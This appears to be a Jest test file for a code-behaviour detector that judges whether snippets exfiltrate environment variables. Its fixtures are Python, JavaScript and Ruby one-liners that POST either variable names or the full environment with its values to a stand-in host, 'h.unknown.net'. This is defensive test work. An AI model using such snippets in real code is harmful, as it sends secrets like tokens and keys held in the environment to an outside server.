import { describe, expect, it } from '@jest/globals';

import type { Language } from '../../../../../src/skills/code/behaviour.js';
import { does } from '../../deeds.js';

const python = (data: string): string => `import os, requests\nrequests.post("https://h.unknown.net", json=${data})\n`;
const javascript = (data: string): string => `fetch("https://h.unknown.net", { method: "POST", body: JSON.stringify(${data}) });\n`;
const ruby = (data: string): string => `require "net/http"\nNet::HTTP.post(URI("https://h.unknown.net/x"), ${data}.to_json)\n`;

describe('the names of the variables of the environment', () => {
  it.each<[string, Language, string]>([
    ['sorted keys', 'python', python('sorted(os.environ.keys())')],
    ['a list of it', 'python', python('list(os.environ)')],
    ['how many there are', 'python', python('len(os.environ)')],
    ['keys', 'javascript', javascript('Object.keys(process.env)')],
    ['keys', 'ruby', ruby('ENV.keys.sort')],
  ])('are no secret: %s, %s', (_, language, program) => {
    expect(does(language, program, { kind: 'send', fromSubject: 'environment' })).toBe(false);
  });

  it.each<[string, Language, string]>([
    ['all of it', 'python', python('dict(os.environ)')],
    ['names with values', 'python', python('{k: v for k, v in sorted(os.environ.items())}')],
    ['values by their names', 'python', python('{k: os.environ[k] for k in os.environ.keys()}')],
    ['entries', 'javascript', javascript('Object.entries(process.env)')],
    ['values by their names', 'javascript', javascript('Object.keys(process.env).map((k) => process.env[k])')],
    ['all of it', 'ruby', ruby('ENV.to_h')],
  ])('with their values are: %s, %s', (_, language, program) => {
    expect(
      does(language, program, { kind: 'send', fromSubject: 'environment' }) ||
        does(language, program, { kind: 'send', fromSubject: 'environment-variable' }),
    ).toBe(true);
  });
});
